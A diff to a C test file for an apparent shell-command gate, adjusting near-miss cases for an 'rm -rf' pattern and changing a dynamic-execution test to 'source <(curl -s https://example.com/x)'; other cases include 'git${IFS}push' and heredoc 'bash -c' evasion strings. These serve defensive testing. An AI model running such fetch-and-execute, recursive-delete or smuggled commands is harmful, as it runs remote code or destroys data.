@@ -638,12 +638,9 @@ static const struct gate_case near_misses[] = {
 	{DECIDE, "echo roz decide"},
 	{DECIDE, "cat \"roz decided.txt\""},
 	{DECIDE, "roz-decide 3"},
-	/*
-	 * The parser reports what runs; it does not rewrite option spelling,
-	 * so `rm -r -f` is a different line from `rm -rf`. A gate that means
-	 * both needs both patterns.
-	 */
-	{RMRF, "rm -r -f /tmp/x"},
+	/* rm's options are reported once more as `rm -rf`, but only when both are there */
+	{RMRF, "rm -r /tmp/x"},
+	{RMRF, "rm -f -- -r"},
 	{RMRF, "rm -rf"},
 };
 
@@ -705,7 +702,7 @@ static void test_dynamic(void **state)
 		"ls; $EDITOR file",
 		"git${IFS}push",
 		"bash -c \"$(cat <<'EOF'\ngit push\nEOF\n)\"",
-		"source <(echo x)",
+		"source <(curl -s https://example.com/x)",
 		". \"$F\"",
 		". /dev/fd/3",
 		"cat f | source /dev/stdin",
